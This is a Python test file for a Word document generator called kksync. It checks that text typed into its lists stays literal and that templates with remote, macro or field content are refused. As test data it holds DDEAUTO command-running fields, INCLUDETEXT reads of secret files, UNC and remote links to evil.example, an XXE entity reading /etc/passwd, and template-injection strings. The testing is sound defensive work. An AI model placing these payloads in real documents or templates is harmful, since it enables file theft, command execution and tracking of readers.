"""Department text is only ever text in the documents, and a template cannot smuggle active content in.

- Field codes, DDE, format strings, template syntax, raw WordprocessingML and XML entities typed
  into the lists come out verbatim as text (plain columns) or as stripped text (rich columns), and
  the generated package holds no field other than the template's page numbers, no ``altChunk``, no
  sub-document or object, no external or active relationship.
- A replacement template with a remote ``attachedTemplate``, linked images, fields that include or
  run something, an ``altChunk``, macros or a DOCTYPE is refused with a ``TemplateError`` that says
  what was found; the shipped template and harmless extras (page fields, a web link) are accepted.
- No ``str.format``/``%``/``format_map`` is ever applied to anything but a constant text in
  the text catalogue ``kksync/texts`` and the code that fills in its templates (documents, checks, state
  stores, mapping, formats; an AST check).

``tests/documents/test_hostile.py`` already shows that ``{{ }}``/``{% %}``, control characters and
scripts in HTML stay literal or are removed; this adds the Word-specific attacks.
"""

from __future__ import annotations

import ast
import io
import re
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from functools import cache
from pathlib import Path

import docx
import pytest
from lxml import etree

from kksync.checks import check_portfolio
from kksync.core.model import DocumentType, FundingSource, Portfolio
from kksync.core.snapshots import snapshot_of
from kksync.documents import render
from kksync.documents.word.template import build_template, load_template
from kksync.documents.word.template_safety import active_content
from kksync.errors import TemplateError
from testkit.scenarios import JOINT, STATUS_DATE, documents_portfolio

ROOT = Path(__file__).resolve().parents[2]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

PAYLOADS = [
    '{ INCLUDETEXT "c:\\\\secret\\\\passwords.txt" }',
    '{ INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\x.png" \\d }',
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }',
    "{ DDE \"cmd\" \"/c notepad\" } { LINK Excel.Sheet.8 \"https://evil.example/x.xls\" }",
    '</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT c:\\\\secret"><w:r><w:t>x</w:t></w:r></w:fldSimple><w:r><w:t>',
    '<w:altChunk r:id="rId99"/><w:instrText>DDEAUTO cmd</w:instrText>',
    "{{ plan.key }} {% include 'x' %} ${x} #{x} {0} {title} {x.__class__.__mro__} %s %(secret)s %d",
    '&amp; &lt;w:t&gt; &#x41; &xxe; <!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]> ]]> <![CDATA[x]]>',
]
RICH = "<p>Rich {{ x }} </p><w:fldSimple w:instr=\"INCLUDETEXT c:\\x\"/><p>{ DDEAUTO cmd }</p>"
NOW = datetime(2012, 11, 27, 12, tzinfo=UTC)
PAGE_FIELDS = {"PAGE", "NUMPAGES"}  # the shipped template's footer


def hostile_portfolio() -> Portfolio:
    base = documents_portfolio(len(PAYLOADS))
    initiatives = [
        i.model_copy(update={"title": PAYLOADS[n % len(PAYLOADS)], "goals": RICH, "purpose": RICH, "risks": RICH})
        if i.plan_id == 1 else i
        for n, i in enumerate(base.initiatives)
    ]
    plans = [p.model_copy(update={"title": f"Plan {PAYLOADS[0]}"}) if p.key == JOINT else p for p in base.plans]
    milestones = [m.model_copy(update={"title": PAYLOADS[n % len(PAYLOADS)]}) for n, m in enumerate(base.milestones)]
    statuses = [s.model_copy(update={"comment": RICH}) for s in base.statuses]
    # Every initiative asks for investment-catalogue money, so the proposals document shows every title too.
    funding = [f.model_copy(update={"source": FundingSource.INVESTERINGSPULJE}) for f in base.funding_lines]
    return base.model_copy(update={"initiatives": initiatives, "plans": plans, "milestones": milestones, "statuses": statuses,
                                   "funding_lines": funding})


def package_problems(data: bytes) -> list[str]:
    """Fields, chunks, objects and external or active relationships in a generated package."""
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    problems: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            root = etree.fromstring(package.read(name), parser)
            if root.getroottree().docinfo.doctype:
                problems.append(f"{name}: DOCTYPE")
            for rel in root.iter(f"{{{REL}}}Relationship"):
                kind = rel.get("Type", "").rsplit("/", 1)[-1]
                if rel.get("TargetMode") == "External" or kind in ("attachedTemplate", "aFChunk", "subDocument", "oleObject"):
                    problems.append(f"{name}: relationship {kind} {rel.get('Target')}")
            for element in root.iter():
                if not isinstance(element.tag, str):
                    continue
                local = element.tag.rpartition("}")[2]
                if local == "fldSimple":
                    instr = element.get(f"{{{W}}}instr", "").strip()
                    if not (name.startswith("word/footer") and instr in PAGE_FIELDS):
                        problems.append(f"{name}: fldSimple {instr!r}")
                elif local in ("instrText", "fldChar", "altChunk", "subDoc", "object", "attachedTemplate", "control"):
                    problems.append(f"{name}: {local}")
    return problems


def document_text(data: bytes) -> str:
    """All paragraph and table text of the body, one paragraph a line."""
    document = docx.Document(io.BytesIO(data))
    lines = [p.text for p in document.paragraphs]
    for table in document.tables:
        lines += [cell.text for row in table.rows for cell in row.cells]
    return "\n".join(lines)


@pytest.fixture(scope="module")
def rendered() -> dict[DocumentType, bytes]:
    portfolio = hostile_portfolio()
    snapshot = snapshot_of(portfolio, JOINT, STATUS_DATE)
    report = check_portfolio(portfolio, today=STATUS_DATE, now=NOW)
    return {kind: render(snapshot, report, kind, year=2012).data for kind in DocumentType}


@pytest.mark.parametrize("kind", list(DocumentType))
def test_hostile_text_is_verbatim_text_and_nothing_else(rendered: dict[DocumentType, bytes], kind: DocumentType) -> None:
    data = rendered[kind]
    assert package_problems(data) == []
    text = document_text(data)
    shown = [p for p in PAYLOADS if p in text]
    assert shown == PAYLOADS, [p for p in PAYLOADS if p not in text]  # every payload appears exactly as typed
    props = docx.Document(io.BytesIO(data)).core_properties
    if kind is DocumentType.PLAN:
        assert PAYLOADS[0] in props.title  # the plan title travels into the properties, as text


def test_rich_text_markup_is_dropped_but_its_words_stay_text(rendered: dict[DocumentType, bytes]) -> None:
    text = document_text(rendered[DocumentType.PLAN])
    assert "Rich {{ x }}" in text and "{ DDEAUTO cmd }" in text
    assert 'w:instr="INCLUDETEXT c:\\x"' not in text and "<p>" not in text


def test_the_default_template_passes_its_own_check() -> None:
    assert active_content(load_template()) == [] and active_content(build_template()) == []


# --- replacement templates -------------------------------------------------------------------------


@cache
def shipped() -> bytes:
    return load_template()


def rewrite(template: bytes, changes: dict[str, Callable[[str], str] | str]) -> bytes:
    """``template`` with parts rewritten (a function of the old text) or added (a string)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            text = source.read(info.filename)
            change = changes.get(info.filename)
            if callable(change):
                text = change(text.decode("utf-8")).encode("utf-8")
            target.writestr(info.filename, text)
        for name, change in changes.items():
            if name not in source.namelist():
                assert isinstance(change, str), name
                target.writestr(name, change)
    return out.getvalue()


def _rels(*relationships: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{REL}">{"".join(relationships)}</Relationships>'


def _in_header(xml: str) -> Callable[[str], str]:
    return lambda text: text.replace("</w:hdr>", xml + "</w:hdr>")


def _add_rel(relationship: str) -> Callable[[str], str]:
    return lambda text: text.replace("</Relationships>", relationship + "</Relationships>")


def _complex_field(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


Changes = dict[str, Callable[[str], str] | str]
REMOTE_TEMPLATE: Changes = {
    "word/settings.xml": lambda t: re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT1"/>', t, count=1),
    "word/_rels/settings.xml.rels": _rels(
        f'<Relationship Id="rIdT1" Type="{R}/attachedTemplate" Target="https://evil.example/normal.dotm" TargetMode="External"/>'),
}
BAD_TEMPLATES: dict[str, Changes] = {
    "remote attachedTemplate": REMOTE_TEMPLATE,
    "UNC attachedTemplate": {**REMOTE_TEMPLATE, "word/_rels/settings.xml.rels": _rels(
        f'<Relationship Id="rIdT1" Type="{R}/attachedTemplate" Target="file://evil.example/share/t.dotx" TargetMode="External"/>')},
    "INCLUDETEXT field in the header": {"word/header1.xml": _in_header(
        f'<w:p><w:fldSimple xmlns:w="{W}" w:instr=\' INCLUDETEXT "c:\\\\secret.txt" \'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')},
    "DDEAUTO complex field": {"word/header1.xml": _in_header(_complex_field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))},
    "field split over runs": {"word/footer1.xml": lambda t: t.replace("</w:ftr>", _complex_field(" INCLUDE", "PICTURE \"https://evil.example/p.png\" \\d ") + "</w:ftr>")},
    "nested field": {"word/header1.xml": _in_header(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>LINK Excel "x.xls"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')},
    "linked remote image": {"word/_rels/document.xml.rels": _add_rel(
        f'<Relationship Id="rIdX" Type="{R}/image" Target="https://evil.example/track.png" TargetMode="External"/>')},
    "altChunk": {
        "word/document.xml": lambda t: t.replace("<w:body>", '<w:body><w:altChunk r:id="rIdA"/>'),
        "word/_rels/document.xml.rels": _add_rel(f'<Relationship Id="rIdA" Type="{R}/aFChunk" Target="chunk.html"/>'),
        "word/chunk.html": "<html><body>included</body></html>",
    },
    "macros": {
        "word/_rels/document.xml.rels": _add_rel(
            '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'),
        "word/vbaProject.bin": "\x00macro",
    },
    "DOCTYPE with an entity": {"word/header1.xml": lambda t: re.sub(
        r"^(<\?xml[^>]*\?>)", r'\1<!DOCTYPE w:hdr [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', t)},
}


@pytest.mark.parametrize("case", list(BAD_TEMPLATES))
def test_a_template_with_active_or_external_content_is_refused(case: str, tmp_path: Path) -> None:
    bad = rewrite(shipped(), BAD_TEMPLATES[case])
    assert active_content(bad), case
    with pytest.raises(TemplateError, match="aktivt eller eksternt indhold"):
        load_template(bad)
    # As an administrator would configure it: KKSYNC_TEMPLATE_DIR/kksync.docx
    (tmp_path / "kksync.docx").write_bytes(bad)
    with pytest.raises(TemplateError, match=re.escape(str(tmp_path / "kksync.docx"))):
        load_template(tmp_path)
    portfolio = documents_portfolio(2)
    snapshot = snapshot_of(portfolio, JOINT, STATUS_DATE)
    with pytest.raises(TemplateError):
        render(snapshot, check_portfolio(portfolio, today=STATUS_DATE, now=NOW), DocumentType.READINESS, template=tmp_path)


def test_harmless_template_extras_are_accepted() -> None:
    ok = rewrite(shipped(), {
        "word/footer1.xml": lambda t: t.replace("</w:ftr>", _complex_field(" PAGE  \\* MERGEFORMAT ") + "</w:ftr>"),
        "word/_rels/document.xml.rels": _add_rel(
            f'<Relationship Id="rIdH" Type="{R}/hyperlink" Target="https://www.kk.dk/" TargetMode="External"/>'),
    })
    assert active_content(ok) == []
    assert load_template(ok) == ok


def test_without_the_check_a_remote_template_would_reach_every_document(monkeypatch: pytest.MonkeyPatch) -> None:
    """Why the refusal is needed: python-docx carries the template's settings relationships into the output."""
    import kksync.documents.word.template as template_module

    monkeypatch.setattr(template_module, "active_content", lambda data: [])
    portfolio = documents_portfolio(2)
    snapshot = snapshot_of(portfolio, JOINT, STATUS_DATE)
    report = check_portfolio(portfolio, today=STATUS_DATE, now=NOW)
    data = render(snapshot, report, DocumentType.READINESS, template=rewrite(shipped(), REMOTE_TEMPLATE)).data
    assert any("attachedTemplate https://evil.example/normal.dotm" in p for p in package_problems(data))


# --- no formatting of department text ----------------------------------------------------------------

# The text catalogue and everything that fills in its templates.
SOURCES = sorted([
    *(ROOT / "kksync/texts").glob("*.py"), *(ROOT / "kksync/documents").rglob("*.py"),
    *(ROOT / "kksync/checks").glob("*.py"), *(ROOT / "kksync/state").glob("*.py"),
    ROOT / "kksync/core/fmt.py", ROOT / "kksync/core/mapping.py",
])


def _constant_text(node: ast.expr, assigned: dict[str, list[ast.expr]]) -> bool:
    """Whether ``node`` is a text the code itself holds: a literal, a constant of a texts table, or a name bound to one."""
    if isinstance(node, ast.Constant):
        return isinstance(node.value, str)
    if isinstance(node, ast.Attribute):  # T.summary_text, RULES[code].text
        base = node.value
        if isinstance(base, ast.Name):
            return base.id.isupper() or base.id == "T"
        return isinstance(base, ast.Subscript) and _constant_text(base, assigned)
    if isinstance(node, ast.Subscript):  # PROBLEMS[code]
        return isinstance(node.value, ast.Name) and node.value.id.isupper()
    if isinstance(node, ast.Name) and node.id in assigned:
        return all(_constant_text(value, {}) for value in assigned[node.id])
    return False


def formatting_of_non_constants(source: str) -> list[str]:
    """``x.format(...)``, ``x.format_map(...)`` and ``x % y`` where ``x`` is not a constant text."""
    found = []
    tree = ast.parse(source)
    scopes = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)] + [tree]
    for scope in scopes:
        assigned: dict[str, list[ast.expr]] = {}
        for node in ast.walk(scope):
            if isinstance(node, ast.Assign):
                for target in node.targets:
                    if isinstance(target, ast.Name):
                        assigned.setdefault(target.id, []).append(node.value)
        found += [ast.unparse(node)[:120] for node in ast.walk(scope) if _formats_data(node, assigned)]
    return sorted(set(found))


def _formats_data(node: ast.AST, assigned: dict[str, list[ast.expr]]) -> bool:
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in ("format", "format_map"):
        return not _constant_text(node.func.value, assigned)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
        arithmetic = isinstance(node.right, ast.Constant) and isinstance(node.right.value, int | float)
        return not arithmetic and not _constant_text(node.left, assigned)
    return False


def test_no_format_string_is_built_from_data() -> None:
    found = {str(path.relative_to(ROOT)): formatting_of_non_constants(path.read_text(encoding="utf-8")) for path in SOURCES}
    assert {name: calls for name, calls in found.items() if calls} == {}
    assert len(SOURCES) > 20


def test_the_format_check_finds_what_it_should() -> None:
    assert formatting_of_non_constants("def f(i):\n    return i.title.format(x=1)\n") == ["i.title.format(x=1)"]
    assert formatting_of_non_constants("def f(c):\n    return c % (1,)\n") == ["c % (1,)"]
    assert formatting_of_non_constants("def f(v):\n    t = v.text\n    return t.format_map({})\n") == ["t.format_map({})"]
    assert formatting_of_non_constants("def f(v):\n    return T.x.format(name=v) + 'a %s' % v + str(v % 7)\n") == []


def test_no_template_engine_or_eval_in_the_document_path() -> None:
    text = "\n".join(path.read_text(encoding="utf-8") for path in SOURCES)
    for banned in ("jinja", "string.Template", "from string import Template", "eval(", "exec(", "docxtpl", "mailmerge"):
        assert banned not in text, banned
